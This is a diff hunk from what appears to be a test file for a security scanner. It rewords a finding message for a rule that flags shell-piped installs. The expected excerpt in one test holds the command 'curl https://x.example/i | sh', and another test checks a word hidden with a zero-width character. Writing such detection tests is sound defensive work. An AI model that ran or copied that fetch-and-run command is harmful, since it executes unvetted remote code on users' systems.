@@ -255,7 +255,7 @@ test("a finding says where it is and shows what is there", async () => {
     rule: "install.shell-pipe",
     file: "scripts/a.sh",
     line: 3,
-    message: "runs whatever a server sends at that moment",
+    message: "runs the content that a server sends at that moment",
     excerpt: "set -e; curl https://x.example/i | sh # go",
   });
   const [hidden] = await scanText("a.md", "ig\u200bnore", never);
